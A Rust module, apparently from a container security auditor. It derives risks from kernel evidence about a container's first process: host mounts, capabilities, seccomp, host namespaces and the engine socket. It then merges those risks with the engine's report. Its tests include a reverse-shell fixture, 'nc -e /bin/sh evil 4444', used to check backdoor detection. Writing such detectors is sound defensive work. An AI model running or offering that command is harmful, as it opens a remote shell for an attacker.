//! What the kernel says of a container's first process, as risks; and what of it the engine's answer does not say.

use super::host::Host;
use super::paths::{kind_of, within};
use super::{DANGEROUS_CAPABILITIES, Kind, ROOT_CAPABILITIES, Risk, Risks, Severity, elsewhere, joins, kind};
use crate::docker::inspect::Container;
use crate::event::reach;
use crate::kernel::{self, Evidence, Mount};

/// By their numbers.
const CAPABILITIES: [&str; 41] = [
    "CHOWN",
    "DAC_OVERRIDE",
    "DAC_READ_SEARCH",
    "FOWNER",
    "FSETID",
    "KILL",
    "SETGID",
    "SETUID",
    "SETPCAP",
    "LINUX_IMMUTABLE",
    "NET_BIND_SERVICE",
    "NET_BROADCAST",
    "NET_ADMIN",
    "NET_RAW",
    "IPC_LOCK",
    "IPC_OWNER",
    "SYS_MODULE",
    "SYS_RAWIO",
    "SYS_CHROOT",
    "SYS_PTRACE",
    "SYS_PACCT",
    "SYS_ADMIN",
    "SYS_BOOT",
    "SYS_NICE",
    "SYS_RESOURCE",
    "SYS_TIME",
    "SYS_TTY_CONFIG",
    "MKNOD",
    "LEASE",
    "AUDIT_WRITE",
    "AUDIT_CONTROL",
    "SETFCAP",
    "MAC_OVERRIDE",
    "MAC_ADMIN",
    "SYSLOG",
    "WAKE_ALARM",
    "BLOCK_SUSPEND",
    "AUDIT_READ",
    "PERFMON",
    "BPF",
    "CHECKPOINT_RESTORE",
];

/// So many mounted folders are searched for what came with them.
const MAX_FOLDERS: usize = 64;

/// What engines mount for themselves as programs that begin a container.
const INITS: [&str; 4] = ["/dev/init", "/run/podman-init", "/sbin/docker-init", "/usr/sbin/docker-init"];

/// What engines write for each container.
const OWN_FILES: [&str; 3] = ["/etc/hostname", "/etc/hosts", "/etc/resolv.conf"];

/// Devices that every container has; where users are mapped they are mounted.
const COMMON_DEVICES: [&str; 7] =
    ["/dev/fuse", "/dev/full", "/dev/null", "/dev/random", "/dev/tty", "/dev/urandom", "/dev/zero"];

/// The risks that the kernel shows, the gravest first.
#[must_use]
pub fn of_evidence(evidence: &Evidence, host: &Host, container: &Container) -> Vec<Risk> {
    let mut risks = Risks(Vec::new());
    mounts(evidence, host, container, &mut risks);
    // In a user namespace they reach nothing of the host.
    if evidence.is_root_mapped {
        capabilities(evidence, &mut risks);
    }
    risks.add_if(evidence.seccomp == Some(0), &kind::seccomp_unconfined, "no filter");
    risks.add_if(!evidence.guards_proc_sys, &kind::system_paths_unconfined, "/proc/sys may be written to");
    risks.add_if(evidence.is_in_host_pids, &kind::host_pid, "has the host's processes");
    risks.add_if(evidence.is_in_host_network, &kind::host_network, "has the host's interfaces");
    if reach::is_backdoor(&evidence.command, &elsewhere(container)) {
        risks.add(&kind::command_tool, evidence.command.as_str());
    }
    risks.weigh_network(container);
    risks.sorted()
}

fn mounts(evidence: &Evidence, host: &Host, container: &Container, risks: &mut Risks) {
    let mut found: Vec<(&Mount, &str)> = Vec::new();
    for mount in &evidence.mounts {
        if found.iter().take(MAX_FOLDERS).any(|(folder, name)| comes_with(mount, folder, name)) {
            continue;
        }
        let Some((kind, name)) = of_mount(mount, host, container) else { continue };
        found.push((mount, name));
        let access = if mount.is_writable { "rw" } else { "ro" };
        risks.add(kind, format!("{name} on {} ({access})", mount.target));
    }
}

/// Whether what is mounted is what the host has mounted in a folder that was mounted with all that is in it.
fn comes_with(mount: &Mount, folder: &Mount, name: &str) -> bool {
    let inner = mount.target.strip_prefix(&folder.target).filter(|inner| inner.starts_with('/'));
    let is_there = |inner: &str| {
        let own = name.trim_end_matches('/');
        mount.mounted_at.iter().any(|at| at.strip_prefix(own) == Some(inner))
    };
    // Of the host's root folder the container's own, being made, is a part: what is mounted there is not on the host.
    let is_in_root = inner.is_some() && name == "/" && mount.on_host.is_empty() && mount.lower.is_empty();
    // So is its root folder where layers are plain folders.
    let is_own_layer = |inner: &str| name == "/" && is_layer(inner) && mount.on_host.iter().any(|at| at == inner);
    is_in_root || inner.is_some_and(|inner| is_there(inner) || is_own_layer(inner))
}

/// The gravest of what a mount is on the host.
fn of_mount<'m>(mount: &'m Mount, host: &Host, container: &Container) -> Option<(&'static Kind, &'m str)> {
    let at = |folder: &str| within(&mount.target, folder);
    let writes = mount.is_writable;
    // A second one of these is not guarded as the engine guards the first.
    match mount.filesystem.as_str() {
        "devpts" => return None,
        // The host's own, and not the container's. The number of a file system is given to another as soon as it is free, so
        // that the shared memory of a container that was just removed can be taken for it.
        "mqueue" => {
            let name = mount.on_host.iter().find(|name| name.ends_with("/mqueue"));
            return name.map(|name| (&kind::host_ipc, name.as_str()));
        }
        "proc" if at("/proc") => return None,
        "proc" => return Some((if writes { &kind::host_path_rw } else { &kind::host_path_ro }, "/proc")),
        "sysfs" | "cgroup" | "cgroup2" if at("/sys") => return None,
        "binfmt_misc" | "nfsd" => return writes.then_some((&kind::host_path_rw, "/proc")),
        "devtmpfs" if mount.root == "/" => {
            return Some((if writes { &kind::host_path_rw } else { &kind::host_path_ro }, "/dev"));
        }
        other if kernel::is_of_kernel(other) => return writes.then_some((&kind::host_path_rw, "/sys")),
        _ => {}
    }
    let judged = |name: &'m String| {
        let kind = kind_of([name, name], writes, host.sockets.iter().any(|socket| socket == name), host)?;
        let is_root = matches!(kind.name, "host_root_rw" | "host_root_ro");
        if mount.target == "/" {
            // Where a container's own files are is the engine's affair.
            return is_root.then_some((kind, name.as_str()));
        }
        if is_engines_own(name, mount, &container.id) {
            return None;
        }
        if name == "/dev/shm" && mount.target == "/dev/shm" {
            return Some((&kind::host_ipc, name.as_str()));
        }
        if within(name, "/dev") && !is_root && name != "/dev" {
            return Some((&kind::host_devices, name.as_str()));
        }
        Some((kind, name.as_str()))
    };
    let position = |kind: &Kind| super::KINDS.iter().position(|known| *known == kind);
    let names = mount.on_host.iter().filter_map(judged);
    let lower = mount.lower.iter().filter(|name| !is_layer(name)).filter_map(judged);
    names.chain(lower).min_by_key(|(kind, _)| position(kind))
}

/// What an engine, or what it calls when a container begins, mounts by itself and the host does not miss.
fn is_engines_own(name: &str, mount: &Mount, id: &str) -> bool {
    let parts = || name.split('/');
    let file = parts().next_back().unwrap_or_default();
    let is_id = |part: &str| part.len() == 64 && part.bytes().all(|byte| byte.is_ascii_hexdigit());
    let is_own = !id.is_empty() && parts().any(|part| part == id);
    // One that shares another's network has its files.
    let is_file = OWN_FILES.contains(&mount.target.as_str()) && mount.target.ends_with(&format!("/{file}"));
    let is_shared = (is_file || mount.target == "/dev/shm") && parts().any(is_id);
    let is_volume = parts().zip(parts().skip(2)).any(|(folder, data)| folder == "volumes" && data == "_data");
    let is_plugins = parts().zip(parts().skip(1)).any(|(folder, plugin)| folder == "plugins" && is_id(plugin));
    // Programs and libraries hold no secret: drivers of graphics cards come so, and the program that begins a container.
    let is_program = !mount.is_writable && (within(name, "/usr") || INITS.contains(&mount.target.as_str()));
    let is_graphics = ["/dev/nvidia", "/run/nvidia"].iter().any(|start| name.starts_with(start));
    is_own
        || is_shared
        || is_volume
        || is_plugins
        || (is_program && name != "/usr")
        || is_graphics
        || COMMON_DEVICES.contains(&name)
}

/// Whether a folder is a layer of an image.
fn is_layer(name: &str) -> bool {
    let stores = ["overlay2", "overlay", "overlay-containers", "overlay-images", "snapshots", "vfs", "rootfs"];
    name.split('/').any(|part| stores.contains(&part))
}

fn capabilities(evidence: &Evidence, risks: &mut Risks) {
    // What a process of another user could have it gets by a set-user-id program.
    let is_root = evidence.uid == Some(0);
    let held = evidence.cap_effective | if is_root { 0 } else { evidence.cap_bounding };
    for (number, name) in CAPABILITIES.iter().enumerate() {
        if held >> number & 1 == 0 {
            continue;
        }
        if ROOT_CAPABILITIES.contains(name) {
            risks.add(&kind::all_capabilities, *name);
        } else if DANGEROUS_CAPABILITIES.contains(name) {
            risks.add(&kind::dangerous_capabilities, *name);
        }
    }
}

/// What the engine and the kernel say together.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Merged {
    /// All risks, the gravest first.
    pub risks: Vec<Risk>,
    /// The kinds that only the kernel showed.
    pub kernel_only: Vec<&'static str>,
}

/// The risks of a container by the engine's answer and by what the kernel shows of it, for events and for the audit.
#[must_use]
pub fn of_both(of_engine: Vec<Risk>, evidence: &Evidence, host: &Host, container: &Container) -> Merged {
    merge(of_engine, of_evidence(evidence, host, container), container)
}

/// Adds to what the engine's answer says what only the kernel shows. Where that contradicts the answer, it is a risk of
/// its own.
#[must_use]
pub fn merge(engine: Vec<Risk>, kernel: Vec<Risk>, container: &Container) -> Merged {
    let said: Vec<&'static Kind> = engine.iter().map(|risk| risk.kind).collect();
    let is_said = |kind: &Kind| said.contains(&kind);
    let mut merged = Risks(engine);
    let mut kernel_only = Vec::new();
    let mut contradictions = Vec::new();
    for risk in kernel {
        if is_said(risk.kind) || is_implied(risk.kind, &said, container) {
            continue;
        }
        kernel_only.push(risk.kind.name);
        // What the engine does by default, its answer does not say; a process may execute another program; and Podman
        // calls the host's shared memory `shareable`.
        let is_open = matches!(risk.kind.name, "seccomp_unconfined" | "command_tool" | "host_ipc");
        let is_of_network = matches!(risk.kind.name, "host_network" | "network_admin");
        if (risk.kind.severity >= Severity::Medium || is_of_network) && !is_open {
            contradictions.push(format!("{}: {}", risk.kind.name, risk.detail));
        }
        merged.0.push(risk);
    }
    if !contradictions.is_empty() {
        merged.add(&kind::engine_disagrees, contradictions.join("; "));
    }
    Merged { risks: merged.sorted(), kernel_only }
}

/// Whether this comes with what the engine says.
fn is_implied(found: &Kind, said: &[&'static Kind], container: &Container) -> bool {
    let says = |names: &[&str]| said.iter().any(|kind| names.contains(&kind.name));
    let given = &container.host_config;
    match found.name {
        "all_capabilities" | "system_paths_unconfined" | "host_devices" | "seccomp_unconfined" => says(&["privileged"]),
        "dangerous_capabilities" => says(&["privileged", "all_capabilities"]),
        "network_admin" => says(&["privileged", "all_capabilities", "dangerous_capabilities"]),
        "host_path_ro" => says(&["host_path_rw", "host_root_rw", "host_root_ro"]),
        "host_path_rw" | "host_root_ro" => says(&["host_root_rw"]),
        "host_pid" => joins(&given.pid_mode),
        "host_network" => joins(&given.network_mode),
        "host_ipc" => joins(&given.ipc_mode),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const ID: &str = "3d65924e16f9fb1df6286d681cd884feba4d87bf8af18c2c1d04e8c8ca1b6f1c";

    fn mount(on_host: &str, target: &str, is_writable: bool) -> Mount {
        Mount {
            target: target.to_owned(),
            filesystem: "ext4".to_owned(),
            is_writable,
            on_host: vec![on_host.to_owned()],
            ..Mount::default()
        }
    }

    fn plain() -> Evidence {
        Evidence {
            guards_proc_sys: true,
            is_root_mapped: true,
            cap_effective: 0xa804_25fb,
            cap_bounding: 0xa804_25fb,
            uid: Some(0),
            seccomp: Some(2),
            ..Evidence::default()
        }
    }

    fn found(evidence: &Evidence) -> Vec<(&'static str, String)> {
        let container = Container { id: ID.to_owned(), ..Container::default() };
        let host = Host { engine: Some("/opt/engine/own".to_owned()), ..Host::default() };
        of_evidence(evidence, &host, &container).into_iter().map(|risk| (risk.kind.name, risk.detail)).collect()
    }

    #[test]
    fn each_mount_counts_by_where_it_is_on_the_host() {
        for (on_host, target, writes, kind) in [
            ("/", "/x", true, "host_root_rw"),
            ("/", "/x", false, "host_root_ro"),
            ("/", "/", true, "host_root_rw"),
            ("/etc", "/x", true, "host_path_rw"),
            ("/etc", "/x", false, "host_path_ro"),
            ("/run/docker.sock", "/some/name", false, "engine_socket"),
            ("/opt/engine/own", "/some/name", false, "engine_socket"),
            ("/dev/kvm", "/dev/kvm", true, "host_devices"),
            ("/dev/sda", "/dev/x", true, "host_root_rw"),
            ("/dev/shm", "/dev/shm", true, "host_ipc"),
            ("/var/lib/docker/containers/0/hosts", "/etc/hosts", false, "host_path_ro"),
            ("/usr/sbin", "/x", true, "host_path_rw"),
        ] {
            let evidence = Evidence { mounts: vec![mount(on_host, target, writes)], ..plain() };
            let access = if writes { "rw" } else { "ro" };
            assert_eq!(found(&evidence), [(kind, format!("{on_host} on {target} ({access})"))], "{on_host}");
        }
        let other = "0".repeat(64);
        for (on_host, target, writes) in [
            ("/var/lib/docker/overlay2/x/merged", "/", true),
            ("/var/lib/docker/volumes/data/_data", "/data", true),
            ("/var/lib/docker/volumes/data/_data/part", "/data", true),
            (&format!("/var/lib/docker/plugins/{other}/propagated-mount/data"), "/data", true),
            (&format!("/var/lib/docker/containers/{ID}/hosts"), "/etc/hosts", true),
            (&format!("/var/lib/docker/containers/{other}/hosts"), "/etc/hosts", true),
            (&format!("/var/lib/docker/containers/{other}/mounts/shm"), "/dev/shm", true),
            (
                &format!("/run/containers/storage/overlay-containers/{ID}/userdata/.containerenv"),
                "/run/.containerenv",
                true,
            ),
            ("/usr/bin/tini-static", "/sbin/docker-init", false),
            ("/usr/lib/x86_64-linux-gnu/libcuda.so.1", "/usr/lib64/libcuda.so.1", false),
            ("/dev/null", "/dev/null", true),
            ("/srv/data", "/x", true),
        ] {
            assert_eq!(found(&Evidence { mounts: vec![mount(on_host, target, writes)], ..plain() }), [], "{on_host}");
        }
    }

    #[test]
    fn a_second_proc_and_the_layers_of_an_overlay_are_seen() {
        let special = |filesystem: &str, target: &str, is_writable| Mount {
            filesystem: filesystem.to_owned(),
            target: target.to_owned(),
            is_writable,
            ..Mount::default()
        };
        let kinds = |mounts: Vec<Mount>| -> Vec<&'static str> {
            found(&Evidence { mounts, ..plain() }).into_iter().map(|(kind, _)| kind).collect()
        };
        assert_eq!(kinds(vec![special("proc", "/x", true)]), ["host_path_rw"]);
        assert_eq!(kinds(vec![special("sysfs", "/x", true)]), ["host_path_rw"]);
        for filesystem in ["binfmt_misc", "bpf", "configfs", "debugfs", "efivarfs", "securityfs", "tracefs", "cpuset"] {
            assert_eq!(kinds(vec![special(filesystem, "/x", true)]), ["host_path_rw"], "{filesystem}");
        }
        assert_eq!(kinds(vec![Mount { root: "/".to_owned(), ..special("devtmpfs", "/x", true) }]), ["host_path_rw"]);
        let queues = |on_host: &[&str]| Mount {
            on_host: on_host.iter().map(ToString::to_string).collect(),
            ..special("mqueue", "/x", true)
        };
        assert_eq!(kinds(vec![queues(&["/dev/mqueue"])]), ["host_ipc"]);
        assert_eq!(kinds(vec![queues(&[])]), Vec::<&str>::new());
        assert_eq!(kinds(vec![queues(&["/var/lib/docker/containers/5/mounts/shm"])]), Vec::<&str>::new());
        let usual = [
            special("proc", "/proc", true),
            special("sysfs", "/sys", false),
            special("cgroup2", "/sys/fs/cgroup", false),
        ];
        assert_eq!(kinds(usual.to_vec()), Vec::<&str>::new());
        let overlay =
            |lower: &str, target: &str| Mount { lower: vec![lower.to_owned()], ..special("overlay", target, true) };
        assert_eq!(kinds(vec![overlay("/etc", "/x")]), ["host_path_rw"]);
        assert_eq!(kinds(vec![overlay("/", "/")]), ["host_root_rw"]);
        assert_eq!(kinds(vec![overlay("/var/lib/docker/overlay2/l/ABC", "/")]), Vec::<&str>::new());
    }

    #[test]
    fn what_comes_with_a_folder_is_not_found_a_second_time() {
        let run = Mount { mounted_at: vec!["/run".to_owned()], ..mount("/run", "/x/run", true) };
        let mounts = vec![mount("/", "/x", true), run, mount("/etc", "/x/etc", true)];
        let details: Vec<String> =
            found(&Evidence { mounts, ..plain() }).into_iter().map(|(_, detail)| detail).collect();
        assert_eq!(details, ["/ on /x (rw)", "/etc on /x/etc (rw)"]);
    }

    #[test]
    fn a_process_is_found_by_what_it_may() {
        assert_eq!(found(&plain()), []);
        let bit = |number: u32| 1_u64 << number;
        for (evidence, kind, detail) in [
            (Evidence { cap_effective: plain().cap_effective | bit(21), ..plain() }, "all_capabilities", "SYS_ADMIN"),
            (Evidence { cap_effective: bit(19) | bit(39), ..plain() }, "dangerous_capabilities", "SYS_PTRACE, BPF"),
            (
                Evidence { uid: Some(7), cap_effective: 0, cap_bounding: bit(19), ..plain() },
                "dangerous_capabilities",
                "SYS_PTRACE",
            ),
            (Evidence { seccomp: Some(0), ..plain() }, "seccomp_unconfined", "no filter"),
            (Evidence { guards_proc_sys: false, ..plain() }, "system_paths_unconfined", "/proc/sys may be written to"),
            (Evidence { is_in_host_pids: true, ..plain() }, "host_pid", "has the host's processes"),
            (Evidence { is_in_host_network: true, ..plain() }, "host_network", "has the host's interfaces"),
            (
                Evidence { command: "nc -e /bin/sh evil 4444".to_owned(), ..plain() },
                "command_tool",
                "nc -e /bin/sh evil 4444",
            ),
        ] {
            assert_eq!(found(&evidence), [(kind, detail.to_owned())]);
        }
        // Without effect: root only could have it, users are mapped, or the kernel has no filters.
        assert_eq!(found(&Evidence { cap_bounding: u64::MAX, ..plain() }), []);
        assert_eq!(found(&Evidence { is_root_mapped: false, cap_effective: u64::MAX, ..plain() }), []);
        assert_eq!(found(&Evidence { seccomp: None, ..plain() }), []);
    }

    #[test]
    fn only_what_the_engine_does_not_say_is_added_and_contradicts_it() {
        let risk = |kind, detail: &str| Risk { kind, detail: detail.to_owned() };
        let merged = |engine: &[&'static Kind], kernel: &[&'static Kind], mode: &str| {
            let mut container = Container::default();
            mode.clone_into(&mut container.host_config.pid_mode);
            let of = |kinds: &[&'static Kind], detail| kinds.iter().map(|kind| risk(kind, detail)).collect();
            let merged = merge(of(engine, "engine"), of(kernel, "kernel"), &container);
            let texts: Vec<String> =
                merged.risks.iter().map(|risk| format!("{}: {}", risk.kind.name, risk.detail)).collect();
            (texts.join("; "), merged.kernel_only.join(", "))
        };
        let text = |one: &str, other: &str| (one.to_owned(), other.to_owned());
        assert_eq!(merged(&[&kind::host_pid], &[&kind::host_pid], ""), text("host_pid: engine", ""));
        assert_eq!(
            merged(&[&kind::privileged], &[&kind::all_capabilities, &kind::seccomp_unconfined], ""),
            text("privileged: engine", "")
        );
        assert_eq!(merged(&[], &[&kind::host_pid], "container:x"), text("", ""));
        assert_eq!(
            merged(&[&kind::host_path_ro], &[&kind::host_root_rw], ""),
            text("host_root_rw: kernel; engine_disagrees: host_root_rw: kernel; host_path_ro: engine", "host_root_rw")
        );
        assert_eq!(
            merged(&[], &[&kind::seccomp_unconfined], ""),
            text("seccomp_unconfined: kernel", "seccomp_unconfined")
        );
    }
}
